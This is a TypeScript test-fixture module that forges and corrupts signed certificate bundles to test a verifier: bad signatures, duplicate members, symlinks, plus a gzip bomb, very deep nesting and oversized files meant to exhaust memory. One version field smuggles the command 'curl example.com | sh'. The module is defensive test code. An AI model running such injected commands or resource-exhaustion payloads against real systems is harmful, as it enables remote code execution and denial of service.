import { readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { CERTIFICATE_PAGE, EVIDENCE_FILE, REPORT_FILE, STATEMENT_FILE } from '../../certificate/bundle.js';
import { jsonText, type Signer } from '../../certificate/dsse.js';
import { idText } from '../../evidence/request.js';
import { type Line, textOf, writeLines } from '../evidence/recorded.js';
import { bundle, newSigner, restate, state, statementIn } from './bundle.js';

// Changed bundles: by a forger without a key; by one with a key, so that digests and signature are right; and by an attacker
// who wants the program to hang, to run out of memory, or to crash.

interface Scene {
  /** The directory of the copy to change. */
  readonly at: string;
  readonly signed: string;
  readonly lines: readonly Line[];
  readonly vendor: Signer;
}

type Forgery = (scene: Scene) => unknown;

const read = (directory: string, name: string): string => readFileSync(join(directory, name), 'utf8');
const write = (directory: string, name: string, content: Uint8Array | string): void =>
  writeFileSync(join(directory, name), content);

/** Changes the statement, and leaves it unsigned. */
const stated =
  (change: (statement: Line) => void): Forgery =>
  ({ at }) => {
    const statement = statementIn(at);
    change(statement);
    return state(at, JSON.stringify(statement));
  };

/** Changes the envelope, but not the statement in it. */
const enveloped =
  (change: (envelope: Line) => void): Forgery =>
  ({ at }) => {
    const envelope = JSON.parse(read(at, STATEMENT_FILE));
    change(envelope);
    write(at, STATEMENT_FILE, jsonText(envelope));
  };

/** Writes this to a file and its digest to the statement, and signs. */
const put =
  (name: string, content: (scene: Scene) => string | Uint8Array): Forgery =>
  (scene) => {
    const { at, vendor } = scene;
    write(at, name, content(scene));
    return restate(at, statementIn(at), vendor);
  };

const putEvidence = (text: (lines: readonly Line[]) => string) =>
  put(EVIDENCE_FILE, ({ lines }) => gzipSync(text(lines), { level: 1 }));

const putLines = (change: (lines: Line[]) => void) =>
  putEvidence((lines) => {
    const changed = structuredClone([...lines]);
    change(changed);
    return textOf(changed);
  });

const putHeader = (change: (header: Line) => void) => putLines(([header]) => change(header));

const putInputs = (change: (inputs: Line) => void) => putHeader(({ inputs }) => change(inputs));

const putExchanges = (change: (exchange: Line) => void) =>
  putLines((changed) => {
    for (const { exchange } of changed) if (exchange) change(exchange);
  });

const without = (...names: readonly string[]) =>
  putLines((changed) => {
    const left = changed.filter(({ exchange }) => !names.includes(exchange?.request.name));
    changed.splice(0, changed.length, ...left);
  });

/** Adds a second answer to a request that was answered. */
const answeredAgain = (id: string) =>
  putLines((changed) => {
    const exchanges: Line[] = changed.flatMap(({ exchange }) => exchange ?? []);
    const first = exchanges.find(({ request }) => idText(request) === id);
    for (const later of exchanges.filter(({ begun }) => begun > first.ended)) {
      Object.assign(later, { begun: later.begun + 2, ended: later.ended + 2 });
    }
    const again = { ...structuredClone(first), begun: first.ended + 1, ended: first.ended + 2 };
    changed.splice(-1, 0, { exchange: again });
  });

export const FORGED: Readonly<Record<string, Forgery>> = {
  'as it was signed': () => undefined,
  'with a page that is not read': ({ at }) => symlinkSync('/dev/zero', join(at, CERTIFICATE_PAGE)),
  'signed again by a stranger': ({ at }) => bundle(at, newSigner()),
  'that nobody signed': ({ at }) => bundle(at),
  'without its statement': ({ at }) => unlinkSync(join(at, STATEMENT_FILE)),
  'without its report': ({ at }) => unlinkSync(join(at, REPORT_FILE)),
  'without its evidence': ({ at }) => unlinkSync(join(at, EVIDENCE_FILE)),
  'with another file': ({ at }) => write(at, 'notes.txt', 'see'),
  'whose report is a link': ({ at, signed }) => {
    unlinkSync(join(at, REPORT_FILE));
    symlinkSync(join(signed, REPORT_FILE), join(at, REPORT_FILE));
  },
  'that is a file': ({ at }) => {
    rmSync(at, { recursive: true });
    write(at, '', 'an archive');
  },
  'whose run was judged by other schemas': putHeader((header) => {
    header.schemas = { directory: 'house', digests: { 'order.schema.json': '5'.repeat(64) } };
  }),
  'whose evidence is an excerpt': putHeader((header) => {
    header.excerpt = 'list.status';
  }),
  'whose evidence is compressed otherwise': ({ at }) =>
    write(at, EVIDENCE_FILE, gzipSync(gunzipSync(readFileSync(join(at, EVIDENCE_FILE))), { level: 9 })),
  'with another verdict in its report': ({ at }) =>
    write(at, REPORT_FILE, read(at, REPORT_FILE).replace('"verdict": "pass"', '"verdict": "warn"')),
  'with another verdict in its report, which was signed': put(REPORT_FILE, ({ signed }) =>
    read(signed, REPORT_FILE).replace('"verdict": "pass"', '"verdict": "warn"'),
  ),
  'without its signature': stated(() => undefined),
  'with the signature of another statement': async (scene) => {
    const { signatures } = JSON.parse(read(scene.at, STATEMENT_FILE));
    await stated(({ predicate }) => {
      predicate.conformance.issuedAt = '2026-01-01T00:00:00.000Z';
    })(scene);
    await enveloped((envelope) => Object.assign(envelope, { signatures }))(scene);
  },
  'with the fingerprint of another key': enveloped(({ signatures }) => {
    signatures[0].keyid = '0'.repeat(64);
  }),
  'with a second signature': enveloped(({ signatures }) => signatures.push(signatures[0])),
  'with another spelling of its signature': enveloped(({ signatures }) => {
    signatures[0].sig = signatures[0].sig.replace('==', '');
  }),
  'with bytes after the envelope': ({ at }) => write(at, STATEMENT_FILE, `${read(at, STATEMENT_FILE)} `),
  'whose statement does not name the key': ({ at, vendor }) => {
    const statement = statementIn(at);
    delete statement.predicate.conformance.publicKey;
    return state(at, JSON.stringify(statement), vendor);
  },
  'with a member that no statement has': stated((statement) => Object.assign(statement, { note: 1 })),
  'with a member twice': ({ at, vendor }) =>
    state(at, JSON.stringify(statementIn(at)).replace('"issuedAt":', '"issuedAt":"","issuedAt":'), vendor),
  'with a command in place of its version': stated(({ predicate }) => {
    predicate.conformance.tool.version = '0.1.0; curl example.com | sh';
  }),
  'with an endless subject': stated(({ predicate }) => {
    predicate.conformance.subject.name = 'a'.repeat(100_000);
  }),
  'of another version': async ({ at, lines, vendor }) => {
    const [header, ...rest] = lines;
    writeLines(at, [{ ...header, tool: { ...header.tool, version: '0.0.9' } }, ...rest]);
    await bundle(at, vendor);
  },
  'of a run in which keys were refused with 403': async (scene) => {
    await putExchanges(({ outcome: { response } }) => {
      if (response.status === 401) response.status = 403;
    })(scene);
    await bundle(scene.at, scene.vendor);
  },
  'of another contract': putHeader(({ contract }) => Object.assign(contract, { name: 'another' })),
  'of an insecure run': putHeader(({ target }) => target.settings.tls.push('insecure')),
  'whose evidence has another name': putHeader(({ target }) => Object.assign(target, { implementation: {} })),
  'with an end before its begin': putExchanges((exchange) => Object.assign(exchange, { begun: exchange.ended + 1 })),
  'with evidence of no instant': putLines((all) => Object.assign(all.at(-1).end, { startedAt: NO_INSTANT })),
  'issued at no instant': stated(({ predicate }) => Object.assign(predicate.conformance, { issuedAt: NO_INSTANT })),
  'of an edition that nobody knows': putHeader((header) => Object.assign(header, { edition: '1999.1' })),
  'of a strict run': putHeader((header) => Object.assign(header, { strict: true })),
  'of a run of selected scenarios': putInputs(({ select }) => select.scenarios.push('*')),
  'of a read-only run': putInputs((inputs) => Object.assign(inputs, { readOnly: true })),
  'of a run with 51 repetitions': putInputs((inputs) => Object.assign(inputs, { repeat: 51 })),
  'of a run with a key of one character': putInputs(({ key }) => Object.assign(key, { isOneCharacter: true })),
  'of a run without a key': putInputs((inputs) => {
    delete inputs.key;
  }),
  'of a run in which the suite failed': putLines((changed) => {
    changed.at(-1).end.defects.push({ scenario: 'listing', reason: 'A bug.' });
  }),
  'without an exchange': without('limit=1'),
  'without two exchanges': without('limit=1', 'page=2'),
  'with a second answer to a listing': answeredAgain('listing/before'),
  'with a second answer to a cancel': answeredAgain('cancel-pending/cancel'),
  'with a base address of 50,000 slashes': putHeader(({ target }) => {
    target.baseUrl = `http://a${'/'.repeat(50_000)}b`;
  }),
  'with a base address without a host': putHeader(({ target }) => {
    target.baseUrl = 'http://';
  }),
  'of a run with 2^31 repetitions': putInputs((inputs) => Object.assign(inputs, { repeat: 2 ** 31 })),
  'with a thousand orders': putInputs(({ orders: { unknown } }) => {
    while (unknown.length < 950) unknown.push(String(10n ** 17n + BigInt(unknown.length)));
  }),
  'with 3,600 orders in four lists': putInputs(({ orders }) => {
    for (const [at, list] of ['pending', 'shipped', 'other', 'unknown'].entries()) {
      orders[list] = Array.from({ length: 900 }, (_, index) => String(index + at * 10_000));
    }
  }),
};

const NO_INSTANT = '9999-99-99T99:99:99.999Z';

const DEEP = `${'['.repeat(400_000)}${']'.repeat(400_000)}`;

/** These take longest, so `npm test` tries only some of them. */
export const HOSTILE: Readonly<Record<string, Forgery>> = {
  'with fields of 100,000 characters that a pattern could walk again and again': putExchanges(({ sent, outcome }) => {
    if (sent.method === 'GET') outcome.response.headers.push(['Link', '<'.repeat(100_000)]);
  }),
  'with 500 fields in each header, which is the limit': putExchanges(({ outcome }) => {
    outcome.response.headers = Array.from({ length: 500 }, () => ['a', '']);
  }),
  'with 10,000 fields in each header': putExchanges(({ outcome }) => {
    outcome.response.headers = Array.from({ length: 10_000 }, () => ['a', '']);
  }),
  'with as much in each request as is read': putExchanges(({ sent }) => {
    while (sent.headers.length < 60) sent.headers.push(['x'.repeat(300), 'y'.repeat(300)]);
  }),
  'with a gigabyte of text in a megabyte': put(EVIDENCE_FILE, ({ lines: [header, body] }) => {
    const piece = gzipSync(textOf([{ ...body, base64: 'AAAA'.repeat(250_000) }]));
    return Buffer.concat([gzipSync(textOf([header])), ...Array.from({ length: 1_000 }, () => piece)]);
  }),
  'with a listing in 250,000 empty pieces': putEvidence(([header, body]) => {
    return textOf([header]) + textOf([{ ...body, base64: '' }]).repeat(250_000);
  }),
  'with 300,000 empty objects in each listing': putLines((changed) => {
    const base64 = Buffer.from(`[${'{},'.repeat(299_999)}{}]`).toString('base64');
    for (const line of changed) if ('base64' in line) line.base64 = base64;
  }),
  'with a line of 60 MB': putEvidence(() => `{"format":"${'x'.repeat(60_000_000)}"}\n`),
  'with 150,000 exchanges': putEvidence(([header, ...rest]) => {
    const exchanges = rest.filter(({ exchange }) => exchange);
    const [small] = exchanges.sort((a, b) => JSON.stringify(a).length - JSON.stringify(b).length);
    return `${textOf([header])}${textOf([small]).repeat(150_000)}`;
  }),
  'with 20,000 attempts of one cancel': putLines((changed) => {
    const at = changed.findIndex(({ exchange }) => exchange && idText(exchange.request) === 'cancel-pending/cancel');
    const { exchange } = changed[at];
    const { body } = exchange.outcome.response;
    const response = { status: 429, reason: '', headers: [], body: { ...body, length: 0, head: '' } };
    const attempt = { exchange: { ...exchange, outcome: { kind: 'response', response } } };
    changed.splice(at, 0, ...Array.from({ length: 20_000 }, () => attempt));
  }),
  'with evidence that is nested deeply': putEvidence(
    () => `{"format":"store-orders-conformance/evidence/3","tool":${DEEP}}\n`,
  ),
  'with a report that is nested deeply': put(REPORT_FILE, () => `{"format":${DEEP}}`),
  'with a report of 60 MB': put(REPORT_FILE, () => Buffer.alloc(60_000_000, '[')),
  'with a report of 70 MB': put(REPORT_FILE, () => Buffer.alloc(70_000_000, ' ')),
};
